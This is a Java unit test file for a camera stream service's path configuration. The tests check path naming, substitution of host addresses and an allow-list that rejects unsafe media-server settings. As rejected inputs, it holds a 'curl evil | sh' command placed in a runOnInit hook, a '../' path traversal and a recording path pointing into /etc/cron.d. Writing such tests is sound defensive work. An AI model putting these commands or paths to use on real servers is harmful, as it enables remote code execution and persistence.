package io.joystick.switcher.stream.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.joystick.auth.error.ApiException;
import io.joystick.device.client.Device;

class StreamPathsTest {

    static final ObjectMapper JSON = new ObjectMapper();

    static Device device(String configuration) throws Exception {
        JsonNode config = configuration == null ? null : JSON.readTree(configuration);
        return new Device("cam1", "Roof", "live", config,
                new Device.Information("10.0.0.1", "10.0.0.2", "primary", true));
    }

    @Test
    void thePathIsNamedAfterTheDeviceUnlessConfigured() throws Exception {
        assertEquals("cam1", StreamPaths.name(device(null)));
        assertEquals("roof-cam", StreamPaths.name(device("{\"path\":\"roof-cam\"}")));
        assertThrows(ApiException.class, () -> StreamPaths.name(device("{\"path\":\"../x\"}")));
    }

    @Test
    void hostIsTheChosenSlotsHostEverywhereInTheConfiguration() throws Exception {
        Device device = device("{\"path\":\"roof\",\"source\":\"rtsp://$host:8554/cam\",\"rtspTransport\":\"tcp\","
                + "\"sourceOnDemand\":false,\"sourceFingerprint\":\"$host\"}");
        assertEquals(JSON.readTree("{\"source\":\"rtsp://10.0.0.2:8554/cam\",\"rtspTransport\":\"tcp\","
                + "\"sourceOnDemand\":false,\"sourceFingerprint\":\"10.0.0.2\"}"),
                StreamPaths.config(device, "secondary", true));
        assertEquals("rtsp://10.0.0.1:8554/cam", StreamPaths.config(device, "primary", false).get("source").asText());
    }

    @Test
    void autoModePullsOnDemand() throws Exception {
        assertEquals(JSON.readTree("{\"sourceOnDemand\":true}"), StreamPaths.config(device(null), "primary", true));
        assertEquals(JSON.readTree("{}"), StreamPaths.config(device(null), "primary", false));
    }

    @Test
    void refusesConfigurationThatWouldRunCommandsOnTheMediaServer() throws Exception {
        ApiException refused = assertThrows(ApiException.class,
                () -> StreamPaths.config(device("{\"runOnInit\":\"curl evil | sh\"}"), "primary", false));
        assertEquals(400, refused.status());
        assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"RUNONREADY\":\"x\"}"), "primary", false));
    }

    @Test
    void forwardsOnlyAllowListedPathFieldsAndSaysWhichAreAllowed() throws Exception {
        ApiException refused = assertThrows(ApiException.class, () -> StreamPaths.config(
                device("{\"source\":\"rtsp://$host/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}"),
                "primary", false));
        assertEquals(400, refused.status());
        assertTrue(refused.getMessage().contains("record, recordPath not allowed"), refused.getMessage());
        assertTrue(refused.getMessage().contains("sourceOnDemandCloseAfter"), refused.getMessage());
        assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"whatever\":1}"), "primary", false));
        assertThrows(ApiException.class,
                () -> StreamPaths.config(device("{\"source\":{\"nested\":true}}"), "primary", false));
        assertEquals(JSON.readTree("{\"sourceOnDemand\":true,\"sourceOnDemandStartTimeout\":\"10s\","
                + "\"sourceOnDemandCloseAfter\":\"10s\",\"rtspTransport\":\"tcp\"}"),
                StreamPaths.config(
                        device("{\"path\":\"p\",\"sourceOnDemand\":true,\"sourceOnDemandStartTimeout\":\"10s\","
                                + "\"sourceOnDemandCloseAfter\":\"10s\",\"rtspTransport\":\"tcp\"}"),
                        "primary", false));
    }
}
